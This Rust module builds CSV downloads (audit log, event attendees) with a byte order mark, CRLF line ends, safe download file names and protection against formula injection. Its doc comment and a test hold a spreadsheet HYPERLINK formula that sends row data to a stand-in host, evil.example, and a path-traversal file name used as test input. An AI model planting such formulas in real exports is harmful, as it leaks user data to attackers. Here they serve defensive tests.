//! The CSV files admins download (the audit log, an event's attendees) and open in Excel: RFC
//! 4180 with CRLF line ends, UTF-8 with a byte order mark (without it Excel reads UTF-8 as
//! Shift_JIS and garbles Japanese), and every cell made safe to open. Each speaks the language
//! the admin asked for ([`Download::language`], [`words`]) and is named for what it holds, in
//! that language, with a plain ASCII name for clients that cannot read the other (RFC 6266).
//!
//! Members write some of what these files hold (their names, an event they proposed), so a cell
//! that begins like a formula would be one in Excel: `=HYPERLINK("https://evil.example/?"&A2)`
//! sends the row to an attacker when clicked. OWASP's rule: a cell starting with `=`, `+`, `-`,
//! `@`, a tab or a carriage return is written with a leading apostrophe, which spreadsheets show
//! as text and do not evaluate.

pub(crate) mod words;

use std::borrow::Cow;
use std::fmt::Write as _;

use axum::http::header::{CACHE_CONTROL, CONTENT_DISPOSITION, CONTENT_TYPE};
use axum::response::{IntoResponse, Response};
use serde::Deserialize;
use sqlx::AnyPool;
use tsunagu_core::api::Language;

use crate::db;
use crate::error::{AppError, Error};

/// The query of a CSV download: `?lang=ja` or `?lang=en`.
#[derive(Debug, Default, Deserialize)]
pub(crate) struct Download {
    lang: Option<String>,
}

impl Download {
    /// The language asked for, else the organisation's, else Japanese.
    pub(crate) async fn language(&self, pool: &AnyPool) -> Result<Language, AppError> {
        if let Some(key) = self.lang.as_deref().filter(|l| !l.is_empty()) {
            return Language::from_key(key)
                .ok_or_else(|| AppError::BadRequest(format!("lang {key:?}: write ja or en")));
        }
        Ok(db::organisation(pool)
            .await?
            .and_then(|org| Language::from_key(&org.language))
            .unwrap_or(Language::Ja))
    }
}

/// A CSV file being written, header first.
#[derive(Debug)]
pub(crate) struct CsvFile {
    writer: csv::Writer<Vec<u8>>,
    /// What the file is, for errors ("the audit CSV").
    what: &'static str,
}

impl CsvFile {
    pub(crate) fn new(what: &'static str, header: &[&str]) -> Result<Self, Error> {
        let mut file = Self {
            writer: csv::WriterBuilder::new()
                .terminator(csv::Terminator::CRLF)
                .from_writer(b"\xEF\xBB\xBF".to_vec()),
            what,
        };
        file.row(header.iter().copied())?;
        Ok(file)
    }

    /// Writes one row, every cell made safe ([`neutralise`]).
    pub(crate) fn row<'c>(
        &mut self,
        cells: impl IntoIterator<Item = &'c str>,
    ) -> Result<(), Error> {
        let what = self.what;
        self.writer
            .write_record(cells.into_iter().map(|cell| neutralise(cell).into_owned()))
            .map_err(|e| Error::Corrupt(format!("writing {what}: {e}")))
    }

    /// The file as a download named `filename` (any language; `.csv` is added), with
    /// `ascii_filename` for clients that read only the plain `filename=` parameter.
    pub(crate) fn into_download(
        self,
        filename: &str,
        ascii_filename: &str,
    ) -> Result<Response, Error> {
        let what = self.what;
        let bytes = self
            .writer
            .into_inner()
            .map_err(|e| Error::Corrupt(format!("writing {what}: {e}")))?;
        Ok((
            [
                (CONTENT_TYPE, "text/csv; charset=utf-8".to_owned()),
                (
                    CONTENT_DISPOSITION,
                    content_disposition(filename, ascii_filename),
                ),
                (CACHE_CONTROL, "no-store".to_owned()),
            ],
            bytes,
        )
            .into_response())
    }
}

/// `attachment; filename="<ascii>.csv"; filename*=UTF-8''<percent-encoded>.csv` (RFC 6266 with
/// RFC 8187's encoding): browsers take the UTF-8 name, older clients the ASCII one. Both are
/// made safe as file names first ([`file_stem`]).
pub(crate) fn content_disposition(filename: &str, ascii_filename: &str) -> String {
    let ascii: String = file_stem(ascii_filename)
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
        .collect();
    let ascii = if ascii.is_empty() {
        "download".into()
    } else {
        ascii
    };
    let mut encoded = String::new();
    for byte in format!("{}.csv", file_stem(filename)).bytes() {
        // RFC 8187 attr-char: ALPHA / DIGIT / "!#$&+-.^_`|~"; everything else is %XX.
        if byte.is_ascii_alphanumeric() || b"!#$&+-.^_`|~".contains(&byte) {
            encoded.push(char::from(byte));
        } else {
            let _ = write!(encoded, "%{byte:02X}");
        }
    }
    format!("attachment; filename=\"{ascii}.csv\"; filename*=UTF-8''{encoded}")
}

/// What of `name` can be a file name on Windows, macOS and Linux: no path separators, no
/// characters Windows refuses, no control characters, whitespace runs as one `_`, and at most
/// 80 characters.
fn file_stem(name: &str) -> String {
    let mut stem = String::new();
    for c in name.trim().chars() {
        if c.is_whitespace() {
            if !stem.ends_with('_') {
                stem.push('_');
            }
        } else if !c.is_control()
            && !matches!(c, '/' | '\\' | ':' | '*' | '?' | '"' | '<' | '>' | '|')
        {
            stem.push(c);
        }
        if stem.chars().count() >= 80 {
            break;
        }
    }
    stem.trim_matches(['_', '.']).to_owned()
}

/// A cell a spreadsheet shows as the text it is: one that would start a formula gets a leading
/// apostrophe.
pub(crate) fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_would_start_a_formula_are_written_as_text() {
        for formula in [
            "=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(neutralise(formula), format!("'{formula}"));
        }
        for text in ["山田 花子", "", "a=b", "2026-11-29T10:00:00Z", "'quoted"] {
            assert_eq!(neutralise(text), text);
        }
    }

    #[test]
    fn file_names_carry_any_language_with_an_ascii_fallback() {
        assert_eq!(
            content_disposition("忘年会 2030_2030-01-15_参加者", "attendees-2030-01-15"),
            "attachment; filename=\"attendees-2030-01-15.csv\"; \
             filename*=UTF-8''%E5%BF%98%E5%B9%B4%E4%BC%9A_2030_2030-01-15_%E5%8F%82%E5%8A%A0%E8%80%85.csv"
        );
        // Nothing of a title can leave the download folder or break the header.
        assert_eq!(
            content_disposition("../a/b\\c:\"d\"\r\n; x=y", "../evil\"; y"),
            "attachment; filename=\"evil_y.csv\"; filename*=UTF-8''abcd_%3B_x%3Dy.csv"
        );
    }

    #[test]
    fn a_file_has_a_bom_crlf_and_safe_cells() {
        let mut file = CsvFile::new("a test CSV", &["name", "note"]).expect("a header");
        file.row(["=1+1", "ok"]).expect("a row");
        let bytes = file.writer.into_inner().expect("bytes");
        assert_eq!(bytes, b"\xEF\xBB\xBFname,note\r\n'=1+1,ok\r\n");
    }
}
